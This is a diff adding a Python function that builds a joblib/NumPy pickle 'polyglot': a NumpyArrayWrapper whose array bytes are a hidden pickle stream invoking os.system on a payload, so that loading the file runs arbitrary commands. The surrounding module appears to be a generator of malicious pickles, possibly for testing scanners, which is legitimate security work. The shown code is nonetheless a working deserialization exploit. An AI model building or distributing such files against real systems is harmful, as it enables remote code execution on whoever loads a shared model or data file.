@@ -594,3 +594,28 @@ def reference_globals(data: bytes) -> list[str]:
 
 
 __all__ = [name for name in dir() if not name.startswith("_")]
+
+
+def joblib_polyglot(payload: bytes | None = None) -> bytes:
+    """A NumpyArrayWrapper (no alignment padding) whose 'array bytes' are opcodes to a plain pickle.load."""
+    evil = payload if payload is not None else b"cos\nsystem\n(" + p0_string(PAYLOAD) + b"tR0"
+    state = (
+        b"}("
+        + bu("subclass")
+        + b"cnumpy\nndarray\n"
+        + bu("shape")
+        + b"J"
+        + struct.pack("<i", len(evil))
+        + b"\x85"
+        + bu("order")
+        + bu("C")
+        + bu("dtype")
+        + b"cnumpy\ndtype\n("
+        + bu("u1")
+        + b"\x89\x88tR(K\x03"
+        + bu("|")
+        + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
+        + bu("allow_mmap")
+        + b"\x89u"
+    )
+    return proto(2) + b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81" + state + b"b" + evil + b"."
